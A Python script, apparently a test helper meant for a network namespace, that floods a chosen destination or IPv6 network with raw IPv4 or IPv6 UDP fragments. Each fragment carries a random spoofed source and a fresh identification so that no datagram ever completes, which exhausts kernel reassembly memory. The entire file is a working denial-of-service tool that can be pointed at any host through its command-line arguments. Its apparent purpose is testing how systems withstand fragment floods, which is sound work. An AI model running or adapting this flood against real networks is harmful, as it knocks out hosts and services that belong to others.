"""Floods a destination with fragments of invented sources, from inside a network namespace.

python3 fragment-flood.py DEVICE MAC DESTINATION first|later|both [COUNT]

DESTINATION is an address, or an IPv6 network whose addresses are taken at random.

No datagram is ever complete: every fragment has a source and an identification of its own (`both`: first and
later fragments in turn). Says `{"flooding": N}` on stdout once N fragments have left, N more than the kernel's
reassembly memory holds by default, then floods on, and says `{"sent": N}` when stdin ends, or after COUNT fragments.
"""

import json
import os
import random
import selectors
import socket
import struct
import sys

BEFORE = 20_000
AT_ONCE = 64
UDP, FRAGMENT = 17, 44
device, mac, destination, kinds = sys.argv[1:5]
COUNT = int(sys.argv[5]) if len(sys.argv) > 5 else None
IPV6 = ":" in destination
address, _, network_bits = destination.partition("/")
TARGET = socket.inet_pton(socket.AF_INET6 if IPV6 else socket.AF_INET, address)
FIXED = int(network_bits or 128) // 8 if IPV6 else 4
ETHERNET = bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("020000000001") + (b"\x86\xdd" if IPV6 else b"\x08\x00")
PART = struct.pack("!HHHH", 40_000, 27_015, 1400, 0) + b"." * 56


def checksum(header):
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4(later):
    source = struct.pack("!I", 0x0B000000 | random.getrandbits(24))
    flags = 0x2000 | (8 if later else 0)
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(PART), random.getrandbits(16), flags, 64, UDP, 0)
    value = checksum(header + source + TARGET)
    return header[:10] + struct.pack("!H", value) + source + TARGET + PART


def ipv6(later):
    source = bytes.fromhex("2a0e0000") + random.randbytes(12)
    fragment = struct.pack("!BBHI", UDP, 0, 1 | (64 if later else 0), random.getrandbits(32))
    header = struct.pack("!IHBB", 6 << 28, len(PART) + 8, FRAGMENT, 64)
    target = TARGET[:FIXED] + random.randbytes(len(TARGET) - FIXED)
    return header + source + target + fragment + PART


def main():
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sender.bind((device, 0))
    stdin = selectors.DefaultSelector()
    stdin.register(sys.stdin, selectors.EVENT_READ)
    build = ipv6 if IPV6 else ipv4
    sent, said = 0, False
    while sent != COUNT and not stdin.select(0):
        for _ in range(AT_ONCE if COUNT is None else min(AT_ONCE, COUNT - sent)):
            sender.send(ETHERNET + build(kinds == "later" or (kinds == "both" and sent % 2 == 1)))
            sent += 1
        if sent >= BEFORE and not said:
            print(json.dumps({"flooding": sent}), flush=True)
            said = True
    print(json.dumps({"sent": sent}), flush=True)


os.nice(5)
main()
